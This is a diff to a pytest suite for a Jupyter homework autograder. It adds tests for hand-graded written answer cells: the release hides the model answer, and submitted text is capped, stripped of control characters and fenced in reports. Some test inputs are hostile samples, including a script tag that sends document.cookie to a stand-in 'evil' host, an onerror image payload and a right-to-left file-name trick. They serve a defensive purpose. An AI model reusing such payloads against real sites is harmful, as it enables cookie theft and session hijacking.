@@ -14,7 +14,7 @@ import nbformat
 import pytest
 
 import attacks
-from autograder import cells, grade, inject, release, rules, sandbox
+from autograder import cells, grade, inject, merge, release, report, rules, sandbox
 from conftest import REPO
 
 HOMEWORK = sorted(p.stem for p in release.SOURCE_DIR.glob("*.ipynb"))
@@ -68,13 +68,16 @@ def temp_folders() -> list[Path]:
 
 # --------------------------------------------------------------------------- the format and release
 
-def test_four_homework_sets_exist_in_probe_judge_format():
-    assert HOMEWORK == ["hw1_alexnet", "hw2_vgg", "hw3_nin", "hw4_googlenet"]
+def test_five_homework_sets_exist_in_probe_judge_format():
+    assert HOMEWORK == ["hw1_alexnet", "hw2_vgg", "hw3_nin", "hw4_googlenet", "hw5_batchnorm"]
     for hw in HOMEWORK:
         source = nbformat.read(release.SOURCE_DIR / f"{hw}.ipynb", 4)
         questions = cells.questions(source)
         assert 3 <= len(questions) <= 5 and sum(q.points for q in questions) == 12
         assert all(cells.info(c).get("kind") != "hidden" for c in source.cells)
+    hw5 = nbformat.read(release.SOURCE_DIR / "hw5_batchnorm.ipynb", 4)
+    assert cells.written(hw5) == [cells.Written("q4", 3.0)]
+    assert [q.id for q in cells.layout(hw5)] == ["q1", "q2", "q3", "q4"]
 
 
 def test_homework_folder_is_what_release_writes():
@@ -96,9 +99,16 @@ def test_release_strips_solutions_probes_and_judges():
         for question in cells.questions(source):
             for test in question.tests:
                 assert test.judge.strip() not in text and test.probe.strip() not in text
-        assert all(cells.info(c).get("kind") in (None, "answer", "visible") for c in student.cells)
+        assert all(cells.info(c).get("kind") in (None, "answer", "visible", "written") for c in student.cells)
         assert all(not c.get("outputs") and c.get("execution_count") is None for c in student.cells if c.cell_type == "code")
         assert text.count("raise NotImplementedError()") >= 3
+        models = [c.source for c in source.cells if cells.info(c).get("kind") == "written"]
+        released = [c for c in student.cells if cells.info(c).get("kind") == "written"]
+        assert len(released) == len(models) and all(c.source == cells.WRITTEN_PLACEHOLDER for c in released)
+        assert all(c.cell_type == "markdown" and c.metadata.get("editable") for c in released)
+        released_text = "\n".join(c.source for c in student.cells)
+        assert not any(line.strip() in released_text for model in models for line in model.splitlines()
+                       if len(line.strip()) > 20), "a model answer was released"
 
 
 def test_strip_solutions_is_a_line_parser_that_refuses_bad_markers():
@@ -142,6 +152,86 @@ def test_probes_need_judges_and_the_other_way_round():
     notebook.cells.remove(judge)
     with pytest.raises(cells.FormatError, match="unpaired"):
         cells.questions(notebook)
+
+
+def _with_cell(cell_type: str, meta: dict, source: str = "An answer.", base: str = "hw3_nin"):
+    notebook = nbformat.read(release.SOURCE_DIR / f"{base}.ipynb", 4)
+    make = nbformat.v4.new_markdown_cell if cell_type == "markdown" else nbformat.v4.new_code_cell
+    cell = make(source)
+    cell.metadata["grader"] = meta
+    notebook.cells.append(cell)
+    return notebook
+
+
+def test_written_metadata_is_parsed_strictly():
+    good = _with_cell("markdown", {"id": "q9", "kind": "written", "points": 2})
+    assert cells.written(good) == [cells.Written("q9", 2.0)]
+    assert [q.id for q in cells.layout(good)] == ["q1", "q2", "q3", "q9"]
+    assert cells.written(_with_cell("markdown", {"id": "q9", "kind": "written", "points": 0.5}))[0].points == 0.5
+    for cell_type, meta, why in [
+        ("code", {"id": "q9", "kind": "written", "points": 2}, "must be a markdown cell"),
+        ("markdown", {"id": "q9", "kind": "written"}, "positive points"),
+        ("markdown", {"id": "q9", "kind": "written", "points": True}, "positive points"),
+        ("markdown", {"id": "q9", "kind": "written", "points": "3"}, "positive points"),
+        ("markdown", {"id": "q9", "kind": "written", "points": -1}, "positive points"),
+        ("markdown", {"id": "q9", "kind": "written", "points": float("nan")}, "positive points"),
+        ("markdown", {"id": "q9", "kind": "written", "points": 2, "test": "t"}, "takes only"),
+        ("markdown", {"id": "q9", "kind": "written", "points": 2, "rule": "formula"}, "takes only"),
+        ("markdown", {"id": "q1", "kind": "written", "points": 2}, "also has code cells"),
+        ("markdown", {"id": "", "kind": "written", "points": 2}, "needs an id"),
+        ("markdown", {"id": "q9", "kind": "Written", "points": 2}, "needs an id and a kind"),
+    ]:
+        with pytest.raises(cells.FormatError, match=why) as error:
+            cells.layout(_with_cell(cell_type, meta), "hw9.ipynb")
+        assert "hw9.ipynb, cell" in str(error.value)
+    twice = _with_cell("markdown", {"id": "q9", "kind": "written", "points": 2})
+    twice.cells.append(nbformat.v4.new_markdown_cell("again", metadata={"grader": {"id": "q9", "kind": "written", "points": 2}}))
+    with pytest.raises(cells.FormatError, match="a second written cell"):
+        cells.questions(twice)
+    code_after = _with_cell("markdown", {"id": "q9", "kind": "written", "points": 2})
+    code_after.cells.append(nbformat.v4.new_code_cell("x = 1", metadata={"grader": {"id": "q9", "kind": "visible"}}))
+    with pytest.raises(cells.FormatError, match="written question"):
+        release.student_version(code_after)
+
+
+def test_release_blanks_the_written_answer_and_the_reference_keeps_it():
+    source = _with_cell("markdown", {"id": "q9", "kind": "written", "points": 2}, "The model answer: zebra-42.")
+    student = release.student_version(source)
+    cell = next(c for c in student.cells if cells.info(c).get("kind") == "written")
+    assert cell.source == cells.WRITTEN_PLACEHOLDER and cell.metadata["grader"] == {"id": "q9", "kind": "written"}
+    assert "zebra" not in nbformat.writes(student)
+    reference = release.student_version(source, keep_solutions=True)
+    assert next(c for c in reference.cells if cells.info(c).get("kind") == "written").source == "The model answer: zebra-42."
+
+
+def test_written_answers_are_collected_capped_and_shown_inert():
+    written = [cells.Written("q4", 3.0)]
+    def notebook(*sources, cell_type="markdown"):
+        nb = nbformat.v4.new_notebook()
+        for text in sources:
+            cell = (nbformat.v4.new_markdown_cell if cell_type == "markdown" else nbformat.v4.new_code_cell)(text)
+            cell.metadata["grader"] = {"id": "q4", "kind": "written"}
+            nb.cells.append(cell)
+        return nb
+    for blank in ("", "  \n", cells.WRITTEN_PLACEHOLDER, "*your answer here*\n", "**YOUR ANSWER HERE**"):
+        entry = grade.collect_written(written, notebook(blank))["q4"]
+        assert entry["blank"] and not entry["missing"] and entry["text"] == ""
+    assert grade.collect_written(written, nbformat.v4.new_notebook())["q4"]["missing"]
+    assert grade.collect_written(written, None)["q4"] == {"max": 3.0, "missing": True, "blank": True, "chars": 0,
+                                                        "kept": 0, "truncated": False, "text": ""}
+    odd = notebook("text with an unhashable id")
+    odd.cells[0].metadata["grader"]["id"] = ["q4"]
+    assert grade.collect_written(written, odd)["q4"]["missing"]
+    joined = grade.collect_written(written, notebook("first", "second"))["q4"]
+    assert joined["text"] == "first\n\nsecond"
+    hostile = "<script>alert(1)</script>\n````\n# heading\n\x1b[31mred\u202egnp.exe\r\n" + "x" * 2_000_000
+    entry = grade.collect_written(written, notebook(hostile, cell_type="code"))["q4"]
+    assert entry["truncated"] and entry["chars"] == len(hostile) and entry["kept"] == grade.WRITTEN_CAP
+    assert len(entry["text"]) == grade.WRITTEN_CAP - 1, "\\r\\n became \\n"
+    assert "\x1b" not in entry["text"] and "\u202e" not in entry["text"] and "\r" not in entry["text"]
+    lines = report.quoted(entry["text"])
+    assert lines[0] == "`````text" and lines[-1] == "`````", "the fence is longer than any backtick run inside"
+    assert not any(line.startswith("`````") for line in lines[1:-1])
 
 
 # --------------------------------------------------------------------------- pieces, no kernel
@@ -224,6 +314,55 @@ def test_solution_scores_full_marks_and_blank_scores_zero(tmp_path, hw):
     for test in (t for q in cells.questions(source) for t in q.tests):
         assert test.message in feedback
         assert "def judge" not in feedback and "inputs(" not in feedback and "detail" not in feedback
+
+
+@needs_bwrap
+def test_written_answers_are_listed_as_manual_and_merge_keeps_them(tmp_path):
+    hw = "hw5_batchnorm"
+    reference, blank = solution(hw), nbformat.read(REPO / "homework" / f"{hw}.ipynb", 4)
+    answered = solution(hw)
+    mine = "Small batches: noisy statistics. *LayerNorm* uses one example's features.\n"
+    next(c for c in answered.cells if cells.info(c).get("kind") == "written").source = mine
+    hostile = solution(hw)
+    script = "<script>fetch('http://evil/'+document.cookie)</script><img src=x onerror=alert(1)>\n```\n"
+    next(c for c in hostile.cells if cells.info(c).get("kind") == "written").source = script + "A" * 1_000_000
+    gone = solution(hw)
+    gone.cells = [c for c in gone.cells if cells.info(c).get("kind") != "written"]
+    folder = write_folder(tmp_path / "submissions", {"answered": answered, "blank": blank, "gone": gone,
+                                                     "hostile": hostile})
+    key = tmp_path / "grader.key"
+    grade.new_key_file(key)
+    results = {r["student"]: r for r in grade.grade(hw, [folder], tmp_path / "out", workers=2, progress=False,
+                                                     shard=(0, 1), key_file=key)}
+    out = tmp_path / "out"
+    assert results["answered"]["total"] == results["hostile"]["total"] == 12 and results["blank"]["total"] == 0
+    assert all(r["max_points"] == 12 and r["manual_max"] == 3 for r in results.values())
+    assert results["answered"]["status"] == results["blank"]["status"] == "ok"
+    assert results["gone"]["status"] == "written answer cell missing: q4" and results["gone"]["total"] == 12
+    rows = {r["student"]: r for r in csv.DictReader(open(out / "grades.csv"))}
+    assert list(rows["answered"]) == ["student", "q1", "q2", "q3", "q4", "total", "max", "manual_max", "status"]
+    assert rows["answered"]["q4"] == rows["hostile"]["q4"] == "manual (max 3)"
+    assert rows["blank"]["q4"] == rows["gone"]["q4"] == "manual (max 3, blank)"
+    assert rows["answered"]["total"] == rows["answered"]["max"] == "12" and rows["answered"]["manual_max"] == "3"
+    summary = json.loads((out / "summary.json").read_text())
+    assert summary["max_points"] == 12 and summary["manual_max"] == 3 and summary["written_answered"] == {"q4": 2}
+
+    feedback = (out / "feedback" / "answered.md").read_text()
+    assert "```text\n" + mine + "```" in feedback and "q4: graded by hand (3 points" in feedback
+    assert mine in (out / "written" / "answered.md").read_text()
+    assert "blank" in (out / "feedback" / "blank.md").read_text()
+    assert "missing" in (out / "written" / "gone.md").read_text()
+    for name in ("feedback", "written"):
+        text = (out / name / "hostile.md").read_text()
+        assert len(text) < 30_000, "a 1 MB answer is capped"
+        assert f"first {grade.WRITTEN_CAP} of {len(script) + 1_000_000} characters" in text
+        before, fenced = text.split("````text\n", 1)
+        assert "<script>" not in before and fenced.index("<script>") < fenced.index("\n````")
+
+    merged = merge.merge([out], tmp_path / "merged")
+    assert len(merged) == 4
+    assert (tmp_path / "merged" / "grades.csv").read_bytes() == (out / "grades.csv").read_bytes()
+    assert (tmp_path / "merged" / "written" / "hostile.md").read_bytes() == (out / "written" / "hostile.md").read_bytes()
 
 
 @needs_bwrap
